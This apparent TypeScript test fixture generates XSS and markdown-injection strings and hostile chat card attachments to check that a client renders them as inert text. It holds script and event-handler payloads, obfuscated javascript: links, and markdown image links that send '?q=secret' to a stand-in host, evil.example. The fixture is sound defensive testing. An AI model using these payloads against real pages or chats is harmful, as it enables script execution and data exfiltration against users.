/** Hosts end with .example: nobody has them, and the browser of the row is told to look for them at the recorder. */
export const FOREIGN = 'evil.example';

/** What runs when a script of a payload runs. */
const RUN = 'ran.push(1)';

/** Markup, markdown and addresses that run, load or pretend something where they are not taken for words. `url` differs for each, so that the recorder can tell them apart. */
const templates: readonly ((url: string) => string)[] = [
  () => `<script>${RUN}</script>`,
  (url) => `<script src="${url}.js"></script>`,
  (url) => `<img src="${url}.png" onerror="${RUN}">`,
  () => `<img src=x onerror=${RUN}>`,
  () => `<svg onload=${RUN}>`,
  () => `<svg><script>${RUN}</script></svg>`,
  (url) => `<svg><image href="${url}.svg"/><use href="${url}#x"/></svg>`,
  () => `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  (url) => `<iframe src="${url}"></iframe>`,
  () => `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<link rel="stylesheet" href="${url}.css"><link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  (url) => `<style>@import url("${url}.css"); body { background: url(${url}) }</style>`,
  (url) => `<div style="background:url(${url})">x</div>`,
  (url) => `<video src="${url}.mp4" autoplay poster="${url}.jpg"></video><audio src="${url}.mp3" autoplay></audio>`,
  (url) => `<form action="${url}"><input type=submit autofocus onfocus=${RUN}></form>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}"><a href="x">x</a>`,
  () => `<details open ontoggle=${RUN}>x</details>`,
  () => `<a href="javascript:${RUN}" id="auto">click</a>`,
  (url) => `<table background="${url}"><tr><td>x</table>`,
  () => `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  () => `"><img src=x onerror=${RUN}>`,
  () => `'-${RUN}-'`,
  () => `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  (url) => `<at>Everyone</at> <attachment id="1"></attachment> <a href="${url}">x</a>`,
  (url) => `![pixel](${url}?q=secret)`,
  (url) => `![](<${url}?q=secret> "title")`,
  (url) => `![pixel][p]\n\n[p]: ${url}?q=secret`,
  (url) => `![p]\n\n[p]: ${url}`,
  (url) => `[![pixel](${url}.png)](${url})`,
  (url) => `[click](${url}?q=secret)`,
  (url) => `[click][l]\n\n[l]: ${url} "x"`,
  (url) => `[1]\n\n[1]: ${url} "Source"`,
  (url) => `<${url}?q=secret>`,
  (url) => `${url}?q=secret and www.${FOREIGN}/x`,
  (url) => `[https://contoso.example](${url})`,
  () => `[click](javascript:${RUN})`,
  () => `[click](JaVaScRiPt:${RUN})`,
  () => `[click](&#106;avascript:${RUN})`,
  () => `[click](java\tscript:${RUN})`,
  () => `[click](data:text/html;base64,PHNjcmlwdD5yYW4ucHVzaCgxKTwvc2NyaXB0Pg==)`,
  () => `[click](vbscript:${RUN})`,
  () => `<javascript:${RUN}>`,
  (url) => `[a](${url} 'x" onmouseover="${RUN}')`,
  (url) => `[a](${url}"onmouseover="${RUN})`,
  (url) => `![a](${url}" onerror="${RUN})`,
  (url) => '`` ` `` ' + `![p](${url})` + ' ``` ',
  (url) => '```html\n' + `<img src="${url}" onerror="${RUN}">\n` + '```',
  (url) => '```\n```\n' + `![p](${url})\n` + '```',
  (url) => `    \`\`\`\n![p](${url})`,
  (url) => `> \`\`\`\n![p](${url}) \`\`\``,
  (url) => `| a |\n|---|\n| ![p](${url}) |`,
  (url) => `- [ ] ![p](${url})`,
  (url) => `[^1]\n\n[^1]: ![p](${url})`,
  (url) => `&lt;img src=${url} onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  (url) => `\\![p](${url}) \\\\![p](${url})`,
  (url) => `a\u202E<img src="${url}">\u202C b\u200B<script>${RUN}</script>`,
  (url) => `$$\\href{javascript:${RUN}}{x}$$ \\(\\includegraphics{${url}}\\)`,
  (url) => `<template><img src="${url}"></template><!--><img src=x onerror=${RUN}>-->`,
];

/** `count` different texts that must stay words. */
export const hostileTexts = (prefix: string, count: number): readonly string[] =>
  Array.from({ length: count }, (_, index) => templates[index % templates.length]?.(`https://${prefix}${index}.${FOREIGN}/x`) ?? '');

const address = (prefix: string, index: number): string => `https://${prefix}-card${index}.${FOREIGN}/x`;

/** Cards and attachments that load or open something: what a stolen or broken sender could post. */
export function hostileAttachments(prefix: string): readonly object[] {
  const card = (...body: object[]): object => ({ contentType: 'application/vnd.microsoft.card.adaptive', content: { type: 'AdaptiveCard', version: '1.5', body } });
  const hero = (content: object): object => ({ contentType: 'application/vnd.microsoft.card.hero', content });
  let index = 0;
  const url = (): string => address(prefix, index++);
  return [
    card({ type: 'Image', url: `${url()}.png` }),
    card({ type: 'TextBlock', text: `![p](${url()}) [x](javascript:${RUN}) <img src=x onerror=${RUN}>`, wrap: true }),
    card({ type: 'RichTextBlock', inlines: [{ type: 'TextRun', text: `<img src=x onerror=${RUN}>`, selectAction: { type: 'Action.OpenUrl', url: `javascript:${RUN}` } }] }),
    card({ type: 'Media', poster: `${url()}.png`, sources: [{ mimeType: 'video/mp4', url: `${url()}.mp4` }] }),
    card({ type: 'Container', backgroundImage: `${url()}.png`, items: [{ type: 'TextBlock', text: 'x' }] }),
    card({ type: 'ActionSet', actions: [{ type: 'Action.OpenUrl', title: 'x', url: `javascript:${RUN}`, iconUrl: `${url()}.png` }] }),
    card({ type: 'FactSet', facts: [{ title: `<b onclick=${RUN}>`, value: `![p](${url()})` }] }),
    { contentType: 'application/vnd.microsoft.card.adaptive', content: { type: 'AdaptiveCard', version: '1.5', backgroundImage: { url: `${url()}.png` }, body: [], speak: `<audio src="${url()}"/>` } },
    hero({ title: `<img src=x onerror=${RUN}>`, text: `![p](${url()})`, images: [{ url: `${url()}.png` }], buttons: [{ type: 'openUrl', title: 'x', value: `javascript:${RUN}`, image: `${url()}.png` }] }),
    { contentType: 'application/vnd.microsoft.card.thumbnail', content: { title: 'x', images: [{ url: `${url()}.png` }] } },
    { contentType: 'application/vnd.microsoft.card.video', content: { media: [{ url: `https://www.youtube.com/embed/x` }], image: { url: `${url()}.png` }, autostart: true } },
    { contentType: 'application/vnd.microsoft.card.audio', content: { media: [{ url: `${url()}.mp3` }], autostart: true } },
    { contentType: 'application/vnd.microsoft.card.animation', content: { media: [{ url: `${url()}.gif` }], autostart: true } },
    { contentType: 'application/vnd.microsoft.card.oauth', content: { text: `![p](${url()})`, buttons: [{ type: 'signin', title: 'x', value: `javascript:${RUN}` }] } },
    { contentType: 'application/vnd.microsoft.card.receipt', content: { title: `<img src=x onerror=${RUN}>`, items: [{ title: 'x', image: { url: `${url()}.png` } }] } },
    { contentType: 'image/png', contentUrl: `${url()}.png`, name: `<img src=x onerror=${RUN}>`, thumbnailUrl: `${url()}.png` },
    { contentType: 'image/svg+xml', contentUrl: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, name: 'x.svg' },
    { contentType: 'audio/mpeg', contentUrl: `${url()}.mp3`, name: 'x.mp3' },
    { contentType: 'video/mp4', contentUrl: `${url()}.mp4`, name: 'x.mp4' },
    { contentType: 'text/html', content: `<img src="${url()}" onerror="${RUN}">`, name: 'x.html' },
    { contentType: 'text/markdown', content: `![p](${url()})`, name: 'x.md' },
    { contentType: 'application/octet-stream', contentUrl: `javascript:${RUN}`, name: `"><img src=x onerror=${RUN}>.txt` },
  ];
}
